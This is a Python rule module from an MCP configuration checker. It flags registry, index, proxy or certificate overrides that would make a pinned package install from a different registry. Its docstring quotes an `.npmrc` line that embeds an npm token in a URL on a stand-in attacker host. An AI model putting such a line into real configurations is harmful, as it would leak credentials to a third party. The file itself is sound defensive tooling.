"""A launch is moved to another registry than the one that its pins are checked against.

## What

A flag, a variable of the server or a file beside the config (`.npmrc`, `uv.toml`, `pip.conf`, …) names another
registry, index, proxy or certificate, moves the folders in which a launcher finds its settings and what it has
installed, or changes what is installed otherwise. So may an `envFile` that is not in the repository. An override that
names the registry that is asked anyway is nothing. A registry that only the repository names is not asked either:
whoever writes to the repository would decide who vouches for a package, and could learn what you ask for. Variables
that load code whatever is installed are `code-loading-environment`.

## Why

A committed `.npmrc` with `registry=https://evil.example/${NPM_TOKEN}/` sent tokens away until pnpm 10.34.2 and
11.5.3 (GHSA-3qhv-2rgh-x77r). And the same name in another registry is another package: the pin and its digest are
then judged against the wrong one (dependency confusion).

## Bad

```json title=".mcp.json"
{
  "mcpServers": {
    "postmark": {
      "command": "npx",
      "args": ["-y", "postmark-mcp@1.0.12"],
      "env": { "npm_config_registry": "https://npm.example/" }
    }
  }
}
```

## Good

```json title=".mcp.json"
{
  "mcpServers": {
    "postmark": {
      "command": "npx",
      "args": ["-y", "postmark-mcp@1.0.12"]
    }
  }
}
```

## Remedy

Take the override out, or accept it for this one definition. Where the finding is about a registry that was not asked
and that you know, add the line that it shows to your *own* configuration (in your home folder, or the environment of
CI), and look again:

    mcp-guard check --network=required
"""

from __future__ import annotations

from collections.abc import Iterator

from mcp_guard.model import (
    Facts,
    Finding,
    ImageLaunch,
    Override,
    PackageFacts,
    PackageLaunch,
    Refused,
    Server,
    ServerFacts,
)
from mcp_guard.rules.commands import CHECK_ONLINE, commands
from mcp_guard.rules.rule import Rule
from mcp_guard.rules.subjects import acceptable, called, labelled, packages
from mcp_guard.rules.urls import origin


def check(facts: Facts) -> Iterator[Finding]:
    """Report every override, and every registry that was not asked because only the repository names it."""
    command = commands(facts)
    for server in facts.servers:
        for override in overrides(server):
            remedy = command.accept(server.server, RULE.name)
            message = _moved(server, override)
            yield Finding(RULE.name, RULE.severity, override.place, message, remedy, server.server.name.text)
    for owner, package in packages(facts):
        if isinstance(package.answer, Refused):
            place, name = package.package.word.place, acceptable(package.package)
            message = _refused(owner, package, package.answer)
            yield Finding(RULE.name, RULE.severity, place, message, CHECK_ONLINE, owner.name.text, name)


def overrides(server: ServerFacts) -> Iterator[Override]:
    """List what moves the launches of a server: on their command lines, in the environment, in files beside it."""
    for launch in server.launches:
        if isinstance(launch, (PackageLaunch, ImageLaunch)):
            yield from launch.overrides
    yield from server.overrides


def _moved(server: ServerFacts, override: Override) -> str:
    if override.registry is None:
        return (
            f"{override.what} may change what {called(server.server)} installs, so the pinned facts may not hold for it"
        )
    scope = f" for {override.scope}" if override.scope else ""
    return (
        f"{override.what} moves {called(server.server)} to {origin(override.registry)}{scope}, "
        "which is not the registry that its pins were checked against"
    )


def _refused(server: Server, package: PackageFacts, answer: Refused) -> str:
    line = f"; if you know it, add to your own configuration: {package.registry_line}" if package.registry_line else ""
    return (
        f"{labelled(package.package)} of {called(server)} would come from {origin(answer.registry)}, "
        f"which only this repository names, so it was not asked{line}"
    )


RULE = Rule("registry-override", "error", check)
